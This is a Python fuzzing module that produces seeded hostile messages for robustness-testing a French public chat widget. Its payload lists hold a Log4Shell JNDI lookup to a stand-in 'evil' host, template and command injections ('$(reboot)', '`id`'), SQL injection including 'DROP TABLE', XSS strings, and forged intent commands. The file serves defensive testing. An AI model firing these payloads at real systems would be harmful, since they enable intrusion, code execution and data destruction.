"""Seeded hostile messages, by family: what an attacker or a broken client sends to a public chat widget.

Pure: `messages(count, seed)` gives the same (family, text) list for the same seed.
"""

from __future__ import annotations

import json
import random

WORDS = ("crèche", "bonus", "territoire", "Caf", "Ctg", "Bafa", "combien", "places", "mairie", "qpv", "relais",
         "oui", "non", "annuler", "parler", "quelqu'un", "Loire", "Mayenne", "66", "€", "%")
INTENTS = ("affirm", "deny", "inform", "request_estimate", "ask_human", "cancel", "greet", "restart",
           "session_start", "back", "nlu_fallback", "out_of_scope", "hack", "")
TEMPLATES = ("{{7*7}}", "${jndi:ldap://evil/x}", "%s%s%s%n", "{0.__class__}", "<%= 7*7 %>", "#{7*7}", "{{{{",
             "{slot}", "{{ request.application.__globals__ }}", "$(reboot)", "`id`")
SQL = ("' OR 1=1 --", "'; DROP TABLE events; --", "\" UNION SELECT * FROM tickets --", "1; SELECT pg_sleep(10)",
       "admin'/*", "%' AND 1=1 AND '%'='")
HTML = ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<iframe src=javascript:alert(1)>",
        "<svg onload=alert(1)>", "</textarea><b>x</b>", "javascript:alert(1)", "<a href=\"//evil\">lien</a>")
NUMBERS = ("0", "-0", "1e308", "-1e308", "NaN", "Infinity", "9" * 400, "1 000 000 000 000 €", "0,000001",
           "٣٠ places", "½", "Ⅻ places", "१२", "1.2.3.4", "12/34/5678", "-5 places", "3,14159e10 €", "0x1F",
           "١٠٠٠٠٠ €", "deux mille milliards", "+33 6 12 34 56 78")
PLANES = ((0x20, 0x7E), (0xA0, 0x24F), (0x370, 0x3FF), (0x590, 0x6FF), (0x900, 0x97F), (0x3040, 0x30FF),
          (0x4E00, 0x9FFF), (0xAC00, 0xD7A3), (0xE000, 0xF8FF), (0xFFF0, 0xFFFF), (0x10000, 0x1FFFF),
          (0x1F300, 0x1FAFF), (0x20000, 0x2A6DF), (0xE0000, 0xE007F), (0xF0000, 0xFFFFD), (0x100000, 0x10FFFD))
INVISIBLE = ("\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u202a", "\u202b", "\u202c", "\u202d", "\u202e",
             "\u2066", "\u2067", "\u2068", "\u2069", "\u061c", "\u00ad")


def _unicode(rng: random.Random, length: int) -> str:
    out = []
    for _ in range(length):
        low, high = rng.choice(PLANES)
        code = rng.randint(low, high)
        out.append(chr(code) if not 0xD800 <= code <= 0xDFFF else "?")
    return "".join(out)


def _words(rng: random.Random, n: int) -> str:
    return " ".join(rng.choice(WORDS) for _ in range(n))


def _injected(rng: random.Random) -> str:
    intent = rng.choice(INTENTS)
    shape = rng.randrange(6)
    if shape == 0:
        return f"/{intent}"
    if shape == 1:
        return f"/{intent}{{\"type_estimation\": \"{rng.choice(WORDS)}\"}}"
    if shape == 2:
        entity = rng.choice(("est_places", "departement", "requested_slot", "x"))
        return f"/{intent}" + json.dumps({entity: rng.randint(-10**12, 10**12)})
    if shape == 3:
        return f"/{intent}{{\"type_estimation\": "  # malformed
    if shape == 4:
        return f"/{intent}" + json.dumps({"type_estimation": "a" * rng.randint(1_000, 200_000)})
    return f"/{intent}" + "{" * rng.randint(1, 5000) + "}" * rng.randint(0, 5000)


FAMILIES = {
    "empty": lambda rng: "",
    "whitespace": lambda rng: "".join(rng.choice(" \t\n\r\u00a0\u3000") for _ in range(rng.randint(1, 200))),
    "huge": lambda rng: _words(rng, rng.randint(2_000, 150_000)),
    "unicode": lambda rng: _unicode(rng, rng.randint(1, 300)),
    "invisible": lambda rng: "".join(rng.choice(INVISIBLE) for _ in range(rng.randint(1, 50))) + _words(rng, rng.randint(0, 5)),
    "control": lambda rng: "".join(chr(rng.randint(0, 31)) for _ in range(rng.randint(1, 100))) + _words(rng, 2),
    "html": lambda rng: rng.choice(HTML) + " " + _words(rng, rng.randint(0, 4)),
    "template": lambda rng: rng.choice(TEMPLATES) + " " + _words(rng, rng.randint(0, 4)),
    "sql": lambda rng: _words(rng, rng.randint(0, 3)) + " " + rng.choice(SQL),
    "injected": _injected,
    "numbers": lambda rng: " ".join(rng.choice(NUMBERS) for _ in range(rng.randint(1, 6))),
    "mixed": lambda rng: _words(rng, rng.randint(1, 30)) + _unicode(rng, rng.randint(0, 10)),
}


def messages(count: int, seed: int = 42) -> list[tuple[str, str]]:
    rng = random.Random(seed)
    families = sorted(FAMILIES)
    return [(family, FAMILIES[family](rng)) for family in (families[i % len(families)] for i in range(count))]
